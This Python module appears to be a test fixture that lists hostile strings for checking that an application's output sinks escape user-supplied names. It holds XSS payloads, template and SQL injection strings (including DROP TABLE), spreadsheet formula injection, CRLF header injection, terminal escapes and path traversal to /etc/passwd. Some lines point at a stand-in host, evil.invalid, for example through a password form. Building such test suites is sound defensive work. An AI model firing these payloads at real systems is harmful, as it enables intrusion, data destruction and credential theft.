"""Texts as nobody wishes them: what a user may call a file, an account or himself, for every sink to survive.

A sink that lets one through runs a script, moves a cell, breaks a line or a terminal. Each script sets :data:`HACKED`
in the page's window, which the browser tests look for.
"""

from __future__ import annotations

import os

HACKED = "dkmHacked"
_RUN = f"window.{HACKED}=1"

MARKUP = (
    f"<script>{_RUN}</script>",
    f"</title></textarea></style></script><script>{_RUN}</script>",
    f'"><img src=x onerror="{_RUN}">',
    f"'><svg/onload={_RUN}>",
    f'" autofocus onfocus="{_RUN}" x="',
    f"<body onload={_RUN}><details open ontoggle={_RUN}>",
    f"javascript:{_RUN}",
    f"<a href=javascript:{_RUN}>x</a>",
    "<iframe srcdoc='<script>parent." + HACKED + "=1</script>'>",
    f"<div hx-get=/sign-out hx-trigger=load hx-on:load={_RUN}>x</div>",
    "<style>*{display:none}</style>",
    "<base href=//evil.invalid/><meta http-equiv=refresh content=0;url=//evil.invalid/>",
    "<form action=//evil.invalid/><input name=password>",
    "<!-- <plaintext>",
    "]]><![CDATA[x",
    "&lt;b&gt;already escaped&lt;/b&gt; &amp;&#x27;&nbsp;",
)
TEMPLATES = (
    "{{ 7 * 7 }}",
    "{% raw %}{{ self }}{% endraw %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "%s %n %(login)s {0} {login.__class__}",
)
SQL = (
    "Robert'); DROP TABLE people;--",
    "' OR '1'='1",
    '" UNION SELECT password FROM accounts --',
    "100%_[a-z]\\",
)
FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.invalid/","x")',
    "+49 30 1234",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    'a","b";"c',
)
DIRECTIONS = (
    "abc\u202etxt.exe",  # what follows runs from right to left
    "\u2067isolated\u2069 \u200fright",
    "שלום עולם",
    "مرحبا بالعالم",
)
LETTERS = (
    "Zoë Ångström-Nuñez",
    "渡辺 直美",
    "Владимир Ильич",
    "e\u0301 and \u00e9",  # the same letter twice, composed differently
    "Z͑͗a̷l̵g̴o̸" * 4,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 family",
    "\u200b\u2060\ufeff",  # nothing that is seen
    "ﷺ" * 20,
)
CONTROLS = (
    "line\nbreak",
    "carriage\r\nSet-Cookie: hacked=1",
    "tab\tbell\x07 escape\x1b[31mred\x1b]0;title\x07",
    "\x7f\x80\x9b31m",
    "..",
    "../../../../etc/passwd",
    "%2e%2e%2f%00",
    "a/b?c=d&e=f#g;h",
)
SIZES = (
    " ",
    "  leading and trailing  ",
    "W" * 255,
    "no-break-" * 40,
    "0",
    "null",
    "NaN",
    "true",
)
TEXTS: tuple[str, ...] = (*MARKUP, *TEMPLATES, *SQL, *FORMULAS, *DIRECTIONS, *LETTERS, *CONTROLS, *SIZES)
"""All that is text. None holds NUL, which no server database takes."""

NAMES: tuple[bytes, ...] = (
    *(text.encode() for text in TEXTS),
    b"latin-1 \xe9\xff",
    b"\xff\xfe<script>",
    b"cut \xe2\x82",
    b"surrogate \xed\xa0\x80",
    b"overlong \xc0\xaf",
)
"""The same as bytes, with some that are no UTF-8. Some hold a slash: a path may, a file's name may not."""

SURROGATED: tuple[str, ...] = (*TEXTS, *(os.fsdecode(name) for name in NAMES[len(TEXTS) :]))
"""The names as Python shows them, with lone surrogates where bytes are no UTF-8."""
